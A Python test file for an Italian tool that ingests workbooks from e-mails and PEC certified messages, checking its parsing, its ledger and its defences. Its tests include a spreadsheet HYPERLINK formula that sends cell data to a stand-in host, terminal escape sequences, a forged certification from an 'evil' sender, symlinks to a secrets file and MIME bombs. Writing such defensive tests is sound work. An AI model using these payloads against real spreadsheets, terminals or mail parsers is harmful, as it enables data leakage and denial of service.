"""Ingestion: files, e-mails saved from a mail client, PEC messages as providers build them."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import os
import shutil
import sys
from email.message import EmailMessage
from pathlib import Path

import pytest

from workbook import cli
from workbook.anomalies import Codice, Gravita
from workbook.cycle import Cycle
from workbook.files import csv_text
from workbook.mail.deliver import Registro
from workbook.pipeline import reconcile_and_report
from workbook.reconcile.ingest import MAX_FILE, ingest

from .pec import message, pec
from .test_reconcile import digest, saved_at

FERRARI = "g.ferrari@almenno-sb.example"
ALL = ("AREA1", "AREA2", "AREA3", "nucleo")


@pytest.fixture
def cycle(filled: Cycle, tmp_path: Path) -> Cycle:
    root = tmp_path / "ciclo"
    shutil.copytree(filled.root, root)
    return Cycle(root)


def _workbook(cycle: Cycle, modulo: str) -> bytes:
    return (cycle.root / "compilati" / f"{modulo}.xlsx").read_bytes()


def _deliver(cycle: Cycle, *moduli: str) -> None:
    for modulo in moduli:
        shutil.copy(cycle.root / "compilati" / f"{modulo}.xlsx", cycle.ricevuti / f"{modulo}.xlsx")


def _ledger(cycle: Cycle) -> list[dict[str, str]]:
    with (cycle.archivio / "registro.csv").open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh, delimiter=";"))


def _codes(results: object) -> set[tuple[Codice, str]]:
    return {(a.codice, a.file) for a in results.outcome.anomalie}  # type: ignore[attr-defined]


# --- PEC, as providers build it --------------------------------------------------------------


def test_a_pec_gives_its_workbook_with_the_certified_sender_and_time(cycle: Cycle) -> None:
    """multipart/signed around multipart/mixed (provider's text, daticert.xml, postacert.eml):
    the workbook inside the original is found, the certification recorded, the envelope
    archived; the delivery receipt carries the original again and counts once."""
    original = message(FERRARI, "Valutazioni Area 1", [("AREA1.xlsx", _workbook(cycle, "AREA1"))])
    (cycle.ricevuti / "pec").mkdir()
    envelope = pec(original, dt.datetime(2018, 1, 22, 10, 0, 5))
    (cycle.ricevuti / "pec" / "busta.eml").write_bytes(envelope)
    (cycle.ricevuti / "pec" / "ricevuta.eml").write_bytes(
        pec(original, dt.datetime(2018, 1, 22, 10, 0, 9), receipt=True)
    )
    ingested = ingest(cycle)
    (doc,) = ingested.documenti
    assert doc.sha256 == hashlib.sha256(_workbook(cycle, "AREA1")).hexdigest()
    assert [a.origine for a in doc.arrivi] == [
        "ricevuti/pec/busta.eml › postacert.eml › AREA1.xlsx",
        "ricevuti/pec/ricevuta.eml › postacert.eml › AREA1.xlsx",
    ]
    first = doc.arrivi[0]
    assert (first.mittente, first.pec_mittente, first.pec_tipo) == (
        FERRARI,
        FERRARI,
        "posta-certificata",
    )
    assert first.pec_data == first.data == dt.datetime(2018, 1, 22, 9, 0, 5)  # +0100 → UTC
    assert ingested.anomalie == []
    assert (cycle.root / doc.archivio).read_bytes() == _workbook(cycle, "AREA1")
    archived = {p.name for p in cycle.archivio.iterdir()}
    assert f"{hashlib.sha256(envelope).hexdigest()}.eml" in archived  # the PEC is kept too

    before = digest(cycle.ricevuti)
    results = reconcile_and_report(cycle)
    assert digest(cycle.ricevuti) == before
    assert not [a for a in results.outcome.anomalie if a.codice is Codice.REC_MITTENTE_INATTESO]
    rows = {(r["origine"], r["stato"]): r for r in _ledger(cycle)}
    used = rows[("ricevuti/pec/busta.eml › postacert.eml › AREA1.xlsx", "usato")]
    assert (used["mittente"], used["pec_mittente"], used["pec_data"], used["modulo"]) == (
        FERRARI,
        FERRARI,
        "2018-01-22 09:00:05",
        "AREA1",
    )
    assert ("ricevuti/pec/ricevuta.eml › postacert.eml › AREA1.xlsx", "duplicato") in rows
    envelope_row = rows[("ricevuti/pec/busta.eml", "messaggio")]
    assert (
        envelope_row["natura"] == "messaggio PEC"
        and envelope_row["pec_tipo"] == "posta-certificata"
    )
    assert rows[("ricevuti/pec/ricevuta.eml", "messaggio")]["natura"] == "ricevuta PEC"
    assert rows[("ricevuti/pec/busta.eml › daticert.xml", "non pertinente")]
    assert rows[("ricevuti/pec/busta.eml › smime.p7s", "non pertinente")]


def _original_with_eml_attachment(inner: EmailMessage) -> bytes:
    outer = message(FERRARI, "Fwd: modulo", [])
    outer.add_attachment(
        inner.as_bytes(), maintype="application", subtype="octet-stream", filename="inoltrato.eml"
    )
    return outer.as_bytes()


def _nested_rfc822(inner: EmailMessage) -> bytes:
    middle = message(FERRARI, "I: modulo", [])
    middle.add_attachment(inner)
    outer = message(FERRARI, "I: I: modulo", [])
    outer.add_attachment(middle)
    return outer.as_bytes()


@pytest.mark.parametrize(
    "build, where",
    [
        (lambda m: pec(m, original_as="rfc822"), "x.eml › postacert.eml › AREA1.xlsx"),
        (lambda m: pec(m, original_as="base64"), "x.eml › postacert.eml › AREA1.xlsx"),
        (lambda m: pec(m, original_as="octet"), "x.eml › postacert.eml › AREA1.xlsx"),
        (_original_with_eml_attachment, "x.eml › inoltrato.eml › AREA1.xlsx"),
        (_nested_rfc822, "x.eml › messaggio › messaggio › AREA1.xlsx"),
    ],
    ids=["pec", "rfc822-in-base64", "eml-as-file", "eml-attachment", "nested-rfc822"],
)
def test_every_mime_structure_gives_its_workbook(cycle: Cycle, build: object, where: str) -> None:
    inner = message(FERRARI, "Modulo Area 1", [("AREA1.xlsx", _workbook(cycle, "AREA1"))])
    (cycle.ricevuti / "x.eml").write_bytes(build(inner))  # type: ignore[operator]
    ingested = ingest(cycle)
    assert [a.origine for d in ingested.documenti for a in d.arrivi] == [f"ricevuti/{where}"]
    assert [a for a in ingested.anomalie if a.gravita is Gravita.ERRORE] == []


def test_a_workbook_saved_with_the_name_of_a_message_is_a_workbook(cycle: Cycle) -> None:
    (cycle.ricevuti / "modulo.eml").write_bytes(_workbook(cycle, "AREA1"))
    (doc,) = ingest(cycle).documenti
    assert doc.etichetta == "ricevuti/modulo.eml"


def test_a_pec_correction_replaces_the_earlier_return(tmp_path: Path) -> None:
    """The demo's cycle: AREA1 returned, then corrected (saved again later) and sent back by
    PEC, with its receipt. The correction counts, the earlier return is superseded, the
    receipt counts once and the results are final with the new score."""
    from workbook.cycle import load_sample
    from workbook.demo import demo, fill_from_answers, sample_answers

    first = demo(tmp_path / "ciclo")
    cycle = Cycle(tmp_path / "ciclo")
    before = {v.persona.matricola: v.punteggio for v in first.outcome.valutazioni}
    answers = sample_answers(load_sample("almenno-2017", "risposte"))
    person = next(
        k for k in answers["AREA1"] if k.startswith("dipendente/") and k.endswith("/collaborazione")
    )
    answers["AREA1"][person] = answers["AREA1"][person] - 4  # the correction: four points less
    (correction,) = [
        p for p in fill_from_answers(cycle, answers, tmp_path / "corretti") if p.stem == "AREA1"
    ]
    (area1,) = [s for s in first.outcome.moduli if s.modulo == "AREA1"]
    saved = area1.versione.quando + dt.timedelta(hours=1)  # saved again an hour later
    saved_at(correction, saved)
    original = message(FERRARI, "Correzione Area 1", [("AREA1.xlsx", correction.read_bytes())])
    (cycle.ricevuti / "pec").mkdir()
    sent = saved + dt.timedelta(hours=2)  # pec() writes the local time of Rome (UTC+1)
    (cycle.ricevuti / "pec" / "correzione.eml").write_bytes(pec(original, sent))
    (cycle.ricevuti / "pec" / "ricevuta.eml").write_bytes(pec(original, sent, receipt=True))

    results = reconcile_and_report(cycle)

    matricola = person.split("/")[1]
    after = {v.persona.matricola: v.punteggio for v in results.outcome.valutazioni}
    assert after[matricola] == before[matricola] - 4
    assert not results.outcome.ha_errori
    (area1,) = [s for s in results.outcome.moduli if s.modulo == "AREA1"]
    assert (
        area1.versione.documento.etichetta
        == "ricevuti/pec/correzione.eml › postacert.eml › AREA1.xlsx"
    )
    assert (Codice.REC_VERSIONE_SUPERATA, "ricevuti/AREA1.xlsx") in _codes(results)
    states = [
        (r["origine"], r["stato"]) for r in _ledger(cycle) if r["natura"] == "foglio di calcolo"
    ]
    assert ("ricevuti/pec/ricevuta.eml › postacert.eml › AREA1.xlsx", "duplicato") in states


# --- what cannot be understood keeps the results provisional ---------------------------------


def test_a_part_we_cannot_tell_keeps_the_results_provisional_until_set_aside(
    cycle: Cycle, capsys: pytest.CaptureFixture[str]
) -> None:
    _deliver(cycle, *ALL)
    assert not reconcile_and_report(cycle).outcome.ha_errori
    unknown = os.urandom(4096)
    (cycle.ricevuti / "nota.eml").write_bytes(
        message(FERRARI, "Integrazione", [("integrazione.dat", unknown)]).as_bytes()
    )
    results = reconcile_and_report(cycle)
    assert results.outcome.ha_errori
    (problem,) = [a for a in results.outcome.anomalie if a.codice is Codice.ING_DA_ESAMINARE]
    assert problem.file == "ricevuti/nota.eml › integrazione.dat"
    sha = hashlib.sha256(unknown).hexdigest()
    assert f"valuta accetta {sha[:12]}" in problem.messaggio

    code = cli.main(
        ["accetta", sha[:12], "--nota", "dati grezzi, nessun modulo", "--dir", str(cycle.root)]
    )
    assert code == 0 and "Messo da parte" in capsys.readouterr().out
    results = reconcile_and_report(cycle)
    assert not results.outcome.ha_errori
    (seen,) = [a for a in results.outcome.anomalie if a.codice is Codice.ING_ESAMINATO]
    assert seen.file == "ricevuti/nota.eml › integrazione.dat" and "dati grezzi" in seen.messaggio
    (row,) = [r for r in _ledger(cycle) if r["sha256"] == sha]
    assert row["stato"] == "esaminato" and "dati grezzi" in row["note"]
    assert cli.main(["accetta", "zzzz", "--dir", str(cycle.root)]) == 2


def test_a_broken_workbook_set_aside_no_longer_blocks_and_is_never_used(cycle: Cycle) -> None:
    _deliver(cycle, *ALL)
    (cycle.ricevuti / "AREA1-copia.xlsx").write_bytes(_workbook(cycle, "AREA1")[:5000])
    results = reconcile_and_report(cycle)
    assert (Codice.ING_ZIP_DANNEGGIATO, "ricevuti/AREA1-copia.xlsx") in _codes(results)
    sha = hashlib.sha256(_workbook(cycle, "AREA1")[:5000]).hexdigest()
    assert cli.main(["accetta", sha[:10], "--dir", str(cycle.root)]) == 0
    results = reconcile_and_report(cycle)
    assert not results.outcome.ha_errori
    assert (Codice.ING_ESAMINATO, "ricevuti/AREA1-copia.xlsx") in _codes(results)


def test_the_version_in_use_cannot_be_set_aside(cycle: Cycle) -> None:
    _deliver(cycle, *ALL)
    reconcile_and_report(cycle)
    sha = hashlib.sha256(_workbook(cycle, "AREA1")).hexdigest()
    assert cli.main(["accetta", sha[:12], "--dir", str(cycle.root)]) == 2


def test_harmless_parts_are_listed_and_do_not_block(cycle: Cycle) -> None:
    _deliver(cycle, "AREA2", "AREA3", "nucleo")
    original = message(
        FERRARI,
        "Area 1 con lettera di accompagnamento",
        [("AREA1.xlsx", _workbook(cycle, "AREA1")), ("lettera.pdf", b"%PDF-1.4 lettera")],
    )
    (cycle.ricevuti / "pec.eml").write_bytes(pec(original))
    (cycle.ricevuti / "grazie.eml").write_bytes(message(FERRARI, "Grazie", []).as_bytes())
    results = reconcile_and_report(cycle)
    assert not results.outcome.ha_errori
    assert {(a.codice, a.file) for a in results.outcome.anomalie} == {
        (Codice.ING_ALLEGATO_IGNORATO, "ricevuti/pec.eml › postacert.eml › lettera.pdf"),
        (Codice.ING_EMAIL_SENZA_MODULI, "ricevuti/grazie.eml"),
    }


@pytest.mark.parametrize(
    "name, data, codice",
    [
        ("modulo.xlsx.p7m", b"0\x82\x10\x00" + os.urandom(64), Codice.ING_FIRMATO),
        ("messaggio.msg", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), Codice.ING_OUTLOOK),
        ("dati.bin", bytes(range(256)) * 4, Codice.ING_DA_ESAMINARE),
    ],
)
def test_files_we_cannot_read_say_what_to_do(
    cycle: Cycle, name: str, data: bytes, codice: Codice
) -> None:
    (cycle.ricevuti / name).write_bytes(data)
    (problem,) = ingest(cycle).anomalie
    assert (problem.codice, problem.file, problem.gravita) == (
        codice,
        f"ricevuti/{name}",
        Gravita.ERRORE,
    )
    assert "valuta accetta" in problem.messaggio


# --- hostile messages never stop the run ------------------------------------------------------


def test_malformed_headers_and_deep_nesting_never_stop_the_run(cycle: Cycle) -> None:
    good = message(FERRARI, "ok", [("AREA1.xlsx", _workbook(cycle, "AREA1"))]).as_bytes()
    bad_headers = good.replace(
        b"From: " + FERRARI.encode(), b"From: =?utf-8?q?\xff?= <<<@@>>"
    ).replace(b"Date: Mon, 22 Jan 2018 10:00:00 +0100", b"Date: Mon, 1 Jan 99999 99:99:99 +9999")
    nesting = "".join(
        f'Content-Type: multipart/mixed; boundary="b{i}"\n\n--b{i}\n' for i in range(5000)
    )
    deep = (
        "From: a@b.it\nSubject: annidato\nMIME-Version: 1.0\n"
        f"{nesting}Content-Type: text/plain\n\nciao\n"
    )
    (cycle.ricevuti / "intestazioni.eml").write_bytes(bad_headers)
    (cycle.ricevuti / "annidato.eml").write_text(deep)
    (cycle.ricevuti / "vuoto.eml").write_bytes(b"")
    (cycle.ricevuti / "binario.eml").write_bytes(os.urandom(3000))
    ingested = ingest(cycle)
    (doc,) = ingested.documenti
    assert doc.primo.mittente == "" and doc.primo.data is not None  # the file's time instead
    errors = {(a.codice, a.file) for a in ingested.anomalie if a.gravita is Gravita.ERRORE}
    assert (Codice.ING_MESSAGGIO_ILLEGGIBILE, "ricevuti/annidato.eml") in errors


# --- the received files themselves ------------------------------------------------------------


def test_received_files_keep_their_bytes_and_modification_time(cycle: Cycle) -> None:
    """The time is evidence, and breaks ties between versions: nothing may touch it."""
    _deliver(cycle, *ALL)
    when = dt.datetime(2018, 1, 20, 8, 30).timestamp()
    for path in cycle.ricevuti.iterdir():
        os.utime(path, (when, when))
    before = {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in cycle.ricevuti.iterdir()}
    reconcile_and_report(cycle)
    reconcile_and_report(cycle)
    assert {
        p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in cycle.ricevuti.iterdir()
    } == before
    rows = {r["origine"]: r for r in _ledger(cycle)}
    archived = cycle.root / rows["ricevuti/AREA1.xlsx"]["archivio"]
    assert archived.stat().st_mtime_ns == before["AREA1.xlsx"][1]  # the copy keeps it too
    assert (
        rows["ricevuti/AREA1.xlsx"]["data"] == "2018-01-20 08:30:00"
        or rows["ricevuti/AREA1.xlsx"]["data"]
    )


@pytest.mark.skipif(sys.platform == "win32", reason="symbolic links need privileges on Windows")
def test_a_link_in_ricevuti_is_never_followed(cycle: Cycle) -> None:
    """A link to the cycle's secret once put a world-readable copy of it into archivio/."""
    secret = (cycle.private / "segreti.toml").read_bytes()
    (cycle.ricevuti / "AREA1.xlsx").symlink_to(cycle.private / "segreti.toml")
    (cycle.ricevuti / "cartella").symlink_to(cycle.private, target_is_directory=True)
    results = reconcile_and_report(cycle)
    assert {
        (Codice.ING_COLLEGAMENTO, "ricevuti/AREA1.xlsx"),
        (Codice.ING_COLLEGAMENTO, "ricevuti/cartella"),
    } <= _codes(results)
    assert all(p.read_bytes() != secret for p in cycle.archivio.iterdir() if p.is_file())
    assert (cycle.private / "segreti.toml").stat().st_mode & 0o077 == 0


@pytest.mark.skipif(sys.platform == "win32", reason="Windows file names are always Unicode")
def test_file_names_that_are_not_utf8_are_shown_and_recorded(cycle: Cycle) -> None:
    name = os.fsencode(cycle.ricevuti) + b"/AREA1-\xff\xfe.xlsx"
    with open(name, "wb") as fh:
        fh.write(_workbook(cycle, "AREA1"))
    results = reconcile_and_report(cycle)
    (area1,) = [s for s in results.outcome.moduli if s.modulo == "AREA1"]
    assert area1.versione.documento.etichetta == "ricevuti/AREA1-\ufffd\ufffd.xlsx"
    assert any(r["origine"] == "ricevuti/AREA1-\ufffd\ufffd.xlsx" for r in _ledger(cycle))


def test_a_file_far_larger_than_a_modulo_is_neither_read_nor_copied(cycle: Cycle) -> None:
    with open(cycle.ricevuti / "enorme.xlsx", "wb") as fh:
        fh.truncate(MAX_FILE + 1)  # sparse: nothing written to the disk
    ingested = ingest(cycle)
    (problem,) = ingested.anomalie
    assert problem.codice is Codice.ING_FILE_ENORME and problem.file == "ricevuti/enorme.xlsx"
    assert not ingested.documenti and not list(cycle.archivio.glob("*.xlsx"))


def test_a_ledger_saved_again_by_excel_is_read_back(cycle: Cycle) -> None:
    """Italian Excel saves a CSV in Windows-1252: the rows of earlier runs are kept."""
    _deliver(cycle, "AREA1")
    reconcile_and_report(cycle)
    ledger = cycle.archivio / "registro.csv"
    ledger.write_bytes(
        ledger.read_text(encoding="utf-8-sig")
        .replace("usato", "usato (verificato è)")
        .encode("cp1252")
    )
    (cycle.ricevuti / "AREA1.xlsx").unlink()
    reconcile_and_report(cycle)
    (row,) = [r for r in _ledger(cycle) if r["origine"] == "ricevuti/AREA1.xlsx"]
    assert row["stato"] == "usato (verificato è)" and "non più in ricevuti" in row["note"]


@pytest.mark.parametrize("register", ["registro.csv", "esaminati.csv"])
def test_a_register_that_csv_cannot_read_is_set_aside_not_a_crash(
    cycle: Cycle, register: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """A field longer than the csv module takes (edited by hand, or hostile): reconcile
    goes on; the unreadable ledger is kept aside, not lost."""
    _deliver(cycle, "AREA1")
    reconcile_and_report(cycle)
    path = cycle.archivio / register
    path.write_text("impronta;data;nota\n" + '"' + "x" * 200_000 + '";1;2\n', encoding="utf-8")
    assert cli.main(["reconcile", "--dir", str(cycle.root)]) in (0, 1)
    assert "Errore imprevisto" not in capsys.readouterr().err
    if register == "registro.csv":
        assert list(cycle.archivio.glob("registro-illeggibile-*.csv"))
        assert _ledger(cycle)  # a new ledger, with this run's arrivals


def test_text_from_outside_never_becomes_a_formula_in_the_registers(
    cycle: Cycle, tmp_path: Path
) -> None:
    subject = '=HYPERLINK("http://example.invalid/?"&A1,"clic")'
    (cycle.ricevuti / "x.eml").write_bytes(
        message(FERRARI, subject, [("@SUM(1+1)*cmd.xlsx", _workbook(cycle, "AREA1"))]).as_bytes()
    )
    reconcile_and_report(cycle)
    raw = (cycle.archivio / "registro.csv").read_text(encoding="utf-8-sig")
    cells = [c for row in csv.reader(raw.splitlines(), delimiter=";") for c in row]
    assert "'" + subject in cells and "'@SUM(1+1)*cmd.xlsx" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {r["oggetto"] for r in _ledger(cycle)} >= {"'" + subject}

    register = Registro(tmp_path / "posta" / "registro.csv")
    register.add(
        {
            "comando": "distribute",
            "modulo": "-A1",
            "oggetto": "+39 035 000",
            "destinatario": "x@y.it",
        }
    )
    text = register.path.read_text(encoding="utf-8-sig")
    assert ";'-A1;" in text and "'+39 035 000" in text
    assert Registro(register.path).rows[0]["modulo"] == "-A1"  # read back as written
    assert csv_text(["a"], [{"a": " =1"}, {"a": "\tx"}, {"a": "8,5"}]).splitlines()[1:] == [
        "' =1",
        "'\tx",
        "8,5",
    ]


def test_control_characters_from_outside_never_reach_the_console(
    cycle: Cycle, capsys: pytest.CaptureFixture[str]
) -> None:
    (cycle.ricevuti / "x.eml").write_bytes(
        message(
            FERRARI, "\x1b]0;titolo\x07\x1b[2J[red]finto[/]", [("\x1b[31mscheda.pdf", b"%PDF-1.4")]
        ).as_bytes()
    )
    (cycle.ricevuti / "nome\x1b[5m.bin").write_bytes(os.urandom(100))
    cli.main(["reconcile", "--dir", str(cycle.root)])
    out = capsys.readouterr()
    assert "\x1b" not in out.out + out.err and "\x07" not in out.out + out.err
    assert "[red]finto[/]" in out.out or "finto" not in out.out


def test_a_forwarded_copy_is_flagged(cycle: Cycle) -> None:
    data = _workbook(cycle, "AREA1")
    (cycle.ricevuti / "a.eml").write_bytes(
        message(FERRARI, "Area 1", [("AREA1.xlsx", data)]).as_bytes()
    )
    (cycle.ricevuti / "b.eml").write_bytes(
        message("mario.rossi@gmail.example", "Fwd: Area 1", [("AREA1.xlsx", data)]).as_bytes()
    )
    results = reconcile_and_report(cycle)
    codes = {a.codice: a for a in results.outcome.anomalie}
    assert "mario.rossi@gmail.example" in codes[Codice.REC_STESSO_MODULO_MITTENTI_DIVERSI].messaggio
    assert FERRARI in codes[Codice.REC_STESSO_MODULO_MITTENTI_DIVERSI].messaggio
    assert "mario.rossi@gmail.example" in codes[Codice.REC_MITTENTE_INATTESO].messaggio


def test_lock_files_and_desktop_indexes_are_not_deliveries(cycle: Cycle) -> None:
    _deliver(cycle, "AREA1")
    (cycle.ricevuti / ".~lock.AREA1.xlsx#").write_text("Mario,pc,01.01.2018")
    (cycle.ricevuti / "Thumbs.db").write_bytes(b"\0" * 10)
    ingested = ingest(cycle)
    assert [d.nome for d in ingested.documenti] == ["AREA1.xlsx"] and not ingested.anomalie


def test_the_ledger_keeps_arrivals_no_longer_in_ricevuti(cycle: Cycle) -> None:
    _deliver(cycle, "AREA1")
    reconcile_and_report(cycle)
    (cycle.ricevuti / "AREA1.xlsx").unlink()
    reconcile_and_report(cycle)
    (row,) = _ledger(cycle)
    assert row["origine"] == "ricevuti/AREA1.xlsx" and "non più in ricevuti" in row["note"]
    assert (cycle.root / row["archivio"]).exists()  # the archived copy stays


# --- found by a review that attacked the ingestion -------------------------------------------


def _mixed(extra: str, head: str = "") -> bytes:
    return (
        f"From: {FERRARI}\r\nTo: s@x.it\r\nSubject: correzione\r\n{head}MIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="BB"\r\n\r\n--BB\r\nContent-Type: text/plain'
        f"\r\n\r\nciao\r\n{extra}--BB--\r\n"
    ).encode()


def _uu(data: bytes) -> str:
    import binascii

    lines = "".join(
        binascii.b2a_uu(data[i : i + 45]).decode().replace("\n", "\r\n")
        for i in range(0, len(data), 45)
    )
    return f"begin 644 AREA1.xlsx\r\n{lines}`\r\nend\r\n"


def _b64(data: bytes) -> str:
    import base64

    return base64.encodebytes(data).decode().replace("\n", "\r\n")


LOST = {
    "uuencode nel testo": lambda d: (
        f"From: {FERRARI}\r\nSubject: uu\r\n\r\nin allegato\r\n\r\n" + _uu(d)
    ).encode(),
    "allegato senza tipo": lambda d: _mixed(
        "--BB\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment\r\n\r\n"
        + _b64(d)
        + "\r\n"
    ),
    "testo html che è un foglio": lambda d: _mixed(
        "--BB\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + _b64(d)
        + "\r\n"
    ),
    "foglio dichiarato come messaggio": lambda d: _mixed(
        '--BB\r\nContent-Type: message/rfc822; name="AREA1.xlsx"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\n" + _b64(d) + "\r\n"
    ),
    "messaggio in uuencode": lambda d: _mixed(
        "--BB\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\n"
        + _uu(message(FERRARI, "interno", [("AREA1.xlsx", d)]).as_bytes())
    ),
    "messaggio con il BOM": lambda d: (
        b"\xef\xbb\xbf" + message(FERRARI, "bom", [("AREA1.xlsx", d)]).as_bytes()
    ),
    "due messaggi in un file (mbox)": lambda d: (
        b"From a Mon Jan 22 09:00:00 2018\n"
        + message(FERRARI, "primo", []).as_bytes()
        + b"\n\nFrom a Mon Jan 22 10:00:00 2018\n"
        + message(FERRARI, "secondo", [("AREA1.xlsx", d)]).as_bytes()
    ),
}


@pytest.mark.parametrize("build", list(LOST.values()), ids=list(LOST))
def test_a_workbook_in_any_mail_structure_is_found(cycle: Cycle, build: object) -> None:
    """Each of these once lost the workbook in silence, the results called final."""
    (cycle.ricevuti / "x.eml").write_bytes(build(_workbook(cycle, "AREA1")))  # type: ignore[operator]
    ingested = ingest(cycle)
    assert [d.sha256 for d in ingested.documenti] == [
        hashlib.sha256(_workbook(cycle, "AREA1")).hexdigest()
    ]
    assert not [a for a in ingested.anomalie if a.gravita is Gravita.ERRORE]


@pytest.mark.parametrize(
    "part",
    [
        'Content-Type: message/partial; id="x@y"; number=1; total=2\r\n\r\nFrom: a@b.it\r\n\r\n',
        'Content-Type: message/external-body; access-type=URL; URL="http://x.example/a.xlsx"'
        "\r\n\r\nContent-Type: application/octet-stream\r\n\r\n",
        "Content-Type: text/plain\r\n\r\nContent-Type: application/vnd.ms-excel\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n" + "QUFB" * 19 + "\r\n",
    ],
    ids=["message-partial", "external-body", "mime-nel-testo"],
)
def test_what_cannot_be_followed_in_a_message_must_be_examined(cycle: Cycle, part: str) -> None:
    (cycle.ricevuti / "x.eml").write_bytes(_mixed(f"--BB\r\n{part}\r\n"))
    codes = {(a.codice, a.gravita) for a in ingest(cycle).anomalie}
    assert (Codice.ING_MESSAGGIO_ILLEGGIBILE, Gravita.ERRORE) in codes


def test_headers_and_parts_that_grow_without_bound_are_read_in_bounded_time(cycle: Cycle) -> None:
    """Encoded words in a header once took memory growing with the square of its length (the
    standard library's default header parser); a million empty parts, minutes."""
    import time

    words = "=?utf-8?q?a?= " * 20_000
    headers = (
        (
            f"From: {words}<a@b.it>\r\nSubject: {words}\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
            f'Content-Type: application/octet-stream; name="{words}"\r\n'
            "Content-Transfer-Encoding: base64\r\n\r\n"
        ).encode()
        + _b64(_workbook(cycle, "AREA1")).encode()
        + b"\r\n--b--\r\n"
    )
    (cycle.ricevuti / "parole.eml").write_bytes(headers)
    parts = (
        b"From: a@b.it\nSubject: x\nMIME-Version: 1.0\n"
        b"Content-Type: multipart/mixed; boundary=b\n\n"
    )
    (cycle.ricevuti / "parti.eml").write_bytes(parts + b"--b\n\n" * 1_000_000 + b"--b--\n")
    start = time.process_time()
    ingested = ingest(cycle)
    assert time.process_time() - start < 10
    assert len(ingested.documenti) == 1
    assert (Codice.ING_MESSAGGIO_ILLEGGIBILE, "ricevuti/parti.eml") in {
        (a.codice, a.file) for a in ingested.anomalie
    }


def test_a_certification_attached_by_the_sender_certifies_nothing(cycle: Cycle) -> None:
    """Only the daticert.xml of a PEC envelope counts; one attached to an ordinary message, or
    inside the original of a PEC, is just a file."""
    from .pec import daticert

    forged = message(
        "attacker@evil.example",
        "modulo",
        [("AREA1.xlsx", _workbook(cycle, "AREA1"))],
    )
    forged.add_attachment(
        daticert("posta-certificata", FERRARI, "s@x.it", "modulo", dt.datetime(2018, 1, 1)),
        maintype="application",
        subtype="xml",
        filename="daticert.xml",
    )
    (cycle.ricevuti / "falso.eml").write_bytes(forged.as_bytes())
    (cycle.ricevuti / "vera.eml").write_bytes(pec(forged, dt.datetime(2018, 1, 22, 10, 0, 5)))
    ingested = ingest(cycle)
    arrivals = {a.origine: a for d in ingested.documenti for a in d.arrivi}
    fake = arrivals["ricevuti/falso.eml › AREA1.xlsx"]
    assert (fake.pec_mittente, fake.pec_tipo, fake.pec_data) == ("", "", None)
    inner = arrivals["ricevuti/vera.eml › postacert.eml › AREA1.xlsx"]
    assert inner.pec_data == dt.datetime(2018, 1, 22, 9, 0, 5)  # the envelope's, not the inner
    assert {e.natura for e in ingested.elementi if e.origine == "ricevuti/falso.eml"} == {
        "messaggio"
    }


def test_what_office_programs_leave_beside_a_file_is_not_a_delivery(cycle: Cycle) -> None:
    _deliver(cycle, "AREA1")
    (cycle.ricevuti / "~$AREA1.xlsx").write_bytes(b"\x0cMario Rossi " + b"\x00" * 150)
    (cycle.ricevuti / "._AREA1.xlsx").write_bytes(b"\x00\x05\x16\x07" + b"\x00" * 80)
    (cycle.ricevuti / "~$vero.xlsx").write_bytes(_workbook(cycle, "AREA2"))  # a real file
    ingested = ingest(cycle)
    assert sorted(d.etichetta for d in ingested.documenti) == [
        "ricevuti/AREA1.xlsx",
        "ricevuti/~$vero.xlsx",
    ]
    assert not ingested.anomalie


def test_marks_and_separators_that_change_how_a_line_reads_are_replaced() -> None:
    from workbook.values import printable

    assert printable("AREA1\u061c\u2028fine") == "AREA1\ufffd fine"
    assert printable("a\u2029b", lines=True) == "a\nb"
